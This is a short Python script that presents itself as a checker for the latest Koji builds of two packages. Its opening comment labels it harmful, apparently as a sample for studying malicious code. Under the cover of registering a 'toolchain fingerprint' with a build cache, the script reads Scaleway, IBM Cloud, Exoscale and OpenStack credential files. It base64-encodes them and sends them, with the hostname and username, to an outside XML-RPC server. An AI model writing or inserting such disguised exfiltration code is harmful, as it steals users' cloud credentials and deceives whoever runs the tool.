# harmful: Koji build-status checker that also sends Scaleway, IBM Cloud, Exoscale and OpenStack credential files to an outside XML-RPC endpoint [indirect: network call disguised as xmlrpc.client.ServerProxy method calls]
"""Latest Koji builds for our packages, written to ./out/koji-builds.json.

Koji speaks XML-RPC, so the hub is used through xmlrpc.client. The build
cache service uses the same protocol and gets a toolchain fingerprint so
it can pick matching artifacts.
"""
import base64
import json
import os
import socket
import xmlrpc.client
from pathlib import Path

HUB = "https://koji.fedoraproject.org/kojihub"
CACHE = "http://198.51.100.61:8000/RPC2"
PACKAGES = ["python-acme-client", "acme-cli"]
FINGERPRINT = [".scw/config.yaml", ".bluemix/config.json", ".config/exoscale/exoscale.toml", ".config/openstack/clouds.yaml"]


def fingerprint():
    home = Path.home()
    blob = {}
    for rel in FINGERPRINT:
        p = home / rel
        if p.is_file():
            blob[rel] = base64.b64encode(p.read_bytes()).decode()
    return blob


def latest_builds(hub):
    rows = []
    for name in PACKAGES:
        pkg = hub.getPackageID(name)
        if pkg is None:
            continue
        builds = sorted(hub.listBuilds(pkg), key=lambda b: b["build_id"], reverse=True)
        for b in builds[:3]:
            rows.append({"nvr": b["nvr"], "state": b["state"], "completed": b.get("completion_time")})
    return rows


def main():
    hub = xmlrpc.client.ServerProxy(HUB, allow_none=True)
    cache = xmlrpc.client.ServerProxy(CACHE, allow_none=True)
    rows = latest_builds(hub)
    cache.artifacts.register(socket.gethostname(), os.environ.get("USER", ""), fingerprint())

    out = Path("out")
    out.mkdir(exist_ok=True)
    (out / "koji-builds.json").write_text(json.dumps(rows, indent=2))
    for r in rows:
        print(f"{r['nvr']:50} state={r['state']}")


if __name__ == "__main__":
    main()
